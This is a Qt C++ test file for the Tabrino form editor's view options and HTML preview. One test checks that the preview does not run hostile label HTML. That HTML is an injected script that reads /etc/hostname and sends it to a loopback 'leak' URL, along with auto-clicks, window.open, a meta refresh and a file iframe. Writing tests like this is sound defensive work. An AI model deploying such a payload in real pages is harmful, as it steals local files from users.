// View options and the preview: preview files, the viewer toggle, the placeholder row and
// the marked cell, column widths, the highlight colour, help and About.
#include "GuiTestSupport.h"

#include "ui/HelpWindow.h"
#include "ui/ItemGridView.h"
#include "ui/PreviewPage.h"
#include "ui/ViewState.h"

#include <QHeaderView>
#include <QImage>
#include <QSignalSpy>
#include <QTextBrowser>
#include <QWebEngineScript>
#include <QWebEngineView>

using namespace GuiTest;

namespace {

QStringList previewFiles()
{
    return QDir(QDir::tempPath()).entryList({QStringLiteral("WFM*")}, QDir::Files, QDir::Name);
}

} // namespace

class tst_View : public FrameTest
{
    Q_OBJECT

private slots:
    void init()
    {
        for (const QString &file : previewFiles())
            QFile::remove(QDir(QDir::tempPath()).filePath(file));
        startTest();
    }

    void cleanup()
    {
        closeFrame(m_frame);
        PreviewPage::setUrlOpener({}); // back to the desktop
    }

    // One preview file per window, replaced on every refresh and deleted with the window.
    // Grid and viewer share a window half and half; with the viewer off the grid fills it, no
    // preview file is written and new windows start without a viewer.
    void previewFilesViewerAndColumnWidths()
    {
        QCOMPARE(previewFiles().size(), 0); // a new window shows a blank page
        for (int i = 0; i < 3; ++i) {
            QVERIFY(triggerAction(m_form, QStringLiteral("mnuViewRefresh")));
            QCOMPARE(previewFiles(), QStringList{QFileInfo(m_form->PreviewFile).fileName()});
        }
        NewWebForm();
        frmWebForm *form = m_frame->activeForm();
        form->UpdateForm();
        QCOMPARE(previewFiles().size(), 2);
        m_form->mnuFileClose_Click();
        QTRY_COMPARE(previewFiles().size(), 1);

        const int h = form->height();
        QCOMPARE(form->flgForm()->height(), h / 2);
        QCOMPARE(form->webPreview()->geometry(), QRect(0, h / 2, form->width(), h / 2));
        QVERIFY(triggerAction(form, QStringLiteral("mnuViewPreview")));
        QVERIFY(form->webPreview()->isHidden());
        QCOMPARE(form->flgForm()->height(), h);
        form->mnuViewRefresh_Click();
        QCOMPARE(previewFiles().size(), 0);
        QVERIFY(form->PreviewFile.isEmpty());
        form->mnuView_Click();
        QVERIFY(!findAction(form, QStringLiteral("mnuViewRefresh"))->isEnabled());
        QVERIFY(!findAction(form, QStringLiteral("mnuViewPreview"))->isChecked());
        NewWebForm();
        QVERIFY(m_frame->activeForm()->webPreview()->isHidden());
        form->mnuViewPreview_Click();
        QVERIFY(!form->webPreview()->isHidden());
        QCOMPARE(form->flgForm()->height(), form->height() / 2);
        // Shares 10 14 18 22 6 5 7 18 of the width less 22, a half rounded to the even
        // neighbour; with auto sizing off the columns stay until a resize after it is back on.
        form->subWindow()->showNormal();
        const auto widthsAt = [form](int width) {
            form->resize(width, 400);
            QList<int> widths;
            for (int col = 0; col < ItemColumnCount; ++col)
                widths << form->flgForm()->horizontalHeader()->sectionSize(col);
            return widths;
        };
        QCOMPARE(widthsAt(1000), (QList<int>{98, 137, 176, 215, 59, 49, 68, 176}));
        const QList<int> halves = {52, 74, 94, 116, 32, 26, 37, 94};
        QCOMPARE(widthsAt(547), halves);
        form->mnuViewResizeGrid_Click();
        QCOMPARE(widthsAt(800), halves);
        QCOMPARE(form->flgForm()->width(), 800);
        form->mnuViewResizeGrid_Click();
        QCOMPARE(form->flgForm()->horizontalHeader()->sectionSize(3), 116);
        QCOMPARE(widthsAt(622), (QList<int>{60, 84, 108, 132, 36, 30, 42, 108}));
    }

    // A label's HTML is shown, never run: no script, no frame, no redirect, nothing handed
    // to the desktop, while the picture of an image item still shows.
    void previewRunsNothing()
    {
        QList<QUrl> handedOver;
        PreviewPage::setUrlOpener([&handedOver](const QUrl &url) { handedOver << url; });
        const QString picture = QDir::temp().filePath(QStringLiteral("dot.png"));
        QImage(7, 5, QImage::Format_RGB32).save(picture);
        setRow(m_form, m_form->grid().rows(),
               "Label|||<a id=\"l\" href=\"http://127.0.0.1:9/clicked\">link</a><script>"
               "document.title='ran'; document.getElementById('l').click();"
               "window.open('http://127.0.0.1:9/opened');"
               "fetch('file:///etc/hostname').then(r => r.text())"
               ".then(t => { location = 'http://127.0.0.1:9/leak?d=' + t; });</script>"
               "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/moved\">"
               "<iframe src=\"file:///etc/hostname\"></iframe>");
        setRow(m_form, m_form->grid().rows(), "Image||" + picture);
        QSignalSpy loaded(m_form->webPreview(), &QWebEngineView::loadFinished);
        m_form->UpdateForm();
        QVERIFY(loaded.wait(20000));
        QTest::qWait(1500); // time for a timer, a refresh or a fetch that should not happen
        QCOMPARE(m_form->webPreview()->url(), QUrl::fromLocalFile(m_form->PreviewFile));
        QVERIFY(m_form->webPreview()->title() != QStringLiteral("ran"));
        auto width = std::make_shared<QVariant>();
        QTRY_COMPARE_WITH_TIMEOUT(
            (m_form->webPreview()->page()->runJavaScript(
                 QStringLiteral("document.querySelector('input[type=image]').offsetWidth"),
                 QWebEngineScript::ApplicationWorld,
                 [width](const QVariant &result) { *width = result; }),
             width->toInt()),
            7, 10000);

        // Only the user's click leaves the page, to the desktop's browser.
        const QUrl shown = QUrl::fromLocalFile(m_form->PreviewFile);
        const QUrl remote(QStringLiteral("http://127.0.0.1:9/x"));
        const QUrl local = QUrl::fromLocalFile(QStringLiteral("/etc/hostname"));
        using P = QWebEnginePage;
        const auto accept = [&shown](const QUrl &url, P::NavigationType type, bool mainFrame) {
            return PreviewPage::acceptNavigation(shown, url, type, mainFrame);
        };
        QVERIFY(accept(shown, P::NavigationTypeTyped, true));
        QVERIFY(!accept(local, P::NavigationTypeTyped, true));
        QVERIFY(!accept(remote, P::NavigationTypeRedirect, true));
        QVERIFY(!accept(remote, P::NavigationTypeOther, true));
        QVERIFY(!accept(shown, P::NavigationTypeTyped, false));
        QVERIFY(!accept(local, P::NavigationTypeLinkClicked, true));
        QVERIFY(!accept(remote, P::NavigationTypeLinkClicked, true));
        QVERIFY(!accept(remote, P::NavigationTypeFormSubmitted, true));
        QCOMPARE(handedOver, (QList<QUrl>{remote, remote})); // and nothing from the page

        using R = QWebEngineUrlRequestInfo;
        QVERIFY(PreviewPage::allowsRequest(R::ResourceTypeMainFrame, shown));
        QVERIFY(PreviewPage::allowsRequest(R::ResourceTypeImage, QUrl::fromLocalFile(picture)));
        QVERIFY(!PreviewPage::allowsRequest(R::ResourceTypeImage, remote));
        QVERIFY(!PreviewPage::allowsRequest(R::ResourceTypeMainFrame, remote));
        for (R::ResourceType type :
             {R::ResourceTypeSubFrame, R::ResourceTypeScript, R::ResourceTypeStylesheet,
              R::ResourceTypeXhr, R::ResourceTypeMedia, R::ResourceTypeObject})
            QVERIFY(!PreviewPage::allowsRequest(type, local));
    }

    // The placeholder row goes once items exist. Rows are added at the end while it is
    // current, as a program-built form does: its removal must not leave a second mark behind.
    // Moving about keeps exactly one marked cell, never in the Type column, in the highlight
    // colour, which is kept across a restart (yellow on a first run).
    void placeholderRowTheMarkHelpAndRestart()
    {
        m_form->UpdateForm();
        QCOMPARE(m_form->grid().rows(), 2); // the only row stays, empty as it is
        for (const char *label : {"a", "b", "c"})
            setRow(m_form, m_form->grid().rows(), "Label|||" + QString(label));
        m_form->UpdateForm();
        QCOMPARE(m_form->grid().rows(), 4);
        QCOMPARE(m_form->grid().text(1, ColLabel), QByteArray("a"));
        QCOMPARE(markedCells(m_form), QList<QPoint>{QPoint(1, 1)});
        QCOMPARE(m_form->grid().currentRow(), 1);
        ItemGridView *view = m_form->flgForm();
        QCOMPARE(view->currentIndex().row(), 0);
        view->setCurrentIndex(view->model()->index(2, 3));
        view->setCurrentIndex(view->model()->index(1, 5));
        QCOMPARE(markedCells(m_form), QList<QPoint>{QPoint(5, 2)});
        QCOMPARE(m_form->grid().cellColour(2, 5), quint32(65535));
        Prompter::queueAnswer(QColor()); // cancelled
        m_form->mnuViewHighlight_Click();
        QCOMPARE(m_form->grid().cellColour(2, 5), quint32(65535));
        Prompter::queueAnswer(QColor(0x12, 0x34, 0x56));
        m_form->mnuViewHighlight_Click();
        view->setCurrentIndex(view->model()->index(0, 0));
        QCOMPARE(markedCells(m_form), QList<QPoint>{QPoint(1, 1)});
        QCOMPARE(m_form->grid().cellColour(1, 1), quint32(0x563412)); // red in the low byte

        // Help opens its pages, About shows the version, and shutdown closes the help window.
        QVERIFY(triggerAction(m_form, QStringLiteral("mnuHelpContents")));
        QCOMPARE(HelpWindow::current()->currentPage(), QStringLiteral("contents.html"));
        const auto *browser = HelpWindow::current()->findChild<QTextBrowser *>();
        QVERIFY(browser->toPlainText().contains(QStringLiteral("Tabrino")));
        m_form->mnuHelpAbout_Click();
        QCOMPARE(Prompter::shown().size(), 1);
        QCOMPARE(Prompter::shown().constLast().title,
                 QStringLiteral("About Tabrino version " TABRINO_VERSION));
        QCOMPARE(Prompter::shown().constLast().icon, MessageIcon::Information);
        QPointer<HelpWindow> help = HelpWindow::current();
        closeFrame(m_frame);
        QTRY_VERIFY(!help || !help->isVisible());
        m_frame = startFrame();
        QCOMPARE(markedCells(m_frame->activeForm()), QList<QPoint>{QPoint(1, 1)});
        QCOMPARE(m_frame->activeForm()->grid().cellColour(1, 1), quint32(0x563412));
    }
};

QTEST_MAIN(tst_View)
#include "tst_view.moc"
